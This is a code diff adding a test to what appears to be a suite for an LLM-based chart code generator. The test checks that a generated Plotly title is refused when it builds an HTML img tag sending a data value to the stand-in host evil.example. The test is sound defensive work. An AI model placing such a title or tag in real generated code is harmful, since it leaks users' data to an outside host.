@@ -166,6 +166,11 @@ async def test_titles_that_load_nothing_are_kept(llm_server: ScriptedServer, tex
     assert repr(text) in await written(llm_server, code_text(f"px.bar(df, title={text!r})"))
 
 
+async def test_a_tag_that_a_format_string_puts_together_is_refused(llm_server: ScriptedServer) -> None:
+    titled = "px.bar(df, title=f\"<img src='//evil.example/{df.price[0]}'>\")"
+    assert await written(llm_server, code_text(titled), code_text(CODE)) == CODE
+
+
 async def test_empty_answers_fail_the_step(llm_server: ScriptedServer) -> None:
     llm_server.script = [Empty()]
     with pytest.raises(EngineError, match="It was empty"):
